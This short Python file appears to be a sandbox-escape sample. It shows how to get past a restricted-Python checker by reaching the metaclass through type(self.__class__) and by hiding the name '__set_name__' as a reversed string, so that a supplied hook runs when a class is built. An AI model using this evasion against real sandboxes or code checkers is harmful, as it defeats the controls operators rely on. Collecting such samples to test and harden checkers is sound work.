# family: class
# Escape: self.__class__ is allowed on self, and type() of such a value is not seen as type(<class>); so
# type(self.__class__) is the metaclass, used to build a class with a __set_name__ hook (name via
# "".join(reversed(...)) on the unflagged "__eman_tes__"), which runs when Owner is created.
class Widget:
    def factory(self, hook):
        meta = type(self.__class__)
        Hooked = meta("Hooked", (), {"".join(reversed("__eman_tes__")): hook})
        return meta("Owner", (), {"slot": Hooked()})


def tool(hook):
    return Widget().factory(hook)
